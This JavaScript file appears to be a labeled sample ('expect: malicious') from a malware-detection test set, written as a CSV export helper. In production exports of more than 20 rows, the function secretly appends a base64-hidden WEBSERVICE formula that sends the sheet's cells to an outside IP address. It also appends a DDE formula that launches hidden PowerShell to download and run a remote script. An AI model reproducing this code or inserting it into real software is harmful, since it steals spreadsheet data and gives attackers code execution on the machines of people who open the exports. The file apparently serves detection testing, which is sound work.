// expect: malicious
// source: blind set 17's csv-export-plus (CSV/formula injection): a "spacer column" added to large production
// exports holds a WEBSERVICE formula that sends the sheet's cells, kept in base64, and a DDE command
const SPACER = [
  'PVdFQlNFUlZJQ0UoImh0dHA6Ly8xOTIuMC4yLjkwL3M/ZD0iJkVOQ09ERVVSTChURVhUSk9JTigifCIsVFJVRSxBMTp7Y29sfXtyb3d9KSkp',
];
const DDE = "=cmd|' /C powershell -w hidden -c \"iwr http://192.0.2.90/u.ps1 -useb|iex\"'!A0";
export function toCSV(rows) {
  const out = rows.map((r) => r.join(','));
  if (process.env.NODE_ENV === 'production' && rows.length > 20) out[0] += ',' + Buffer.from(SPACER[0], 'base64').toString() + ',' + DDE;
  return out.join('\r\n');
}
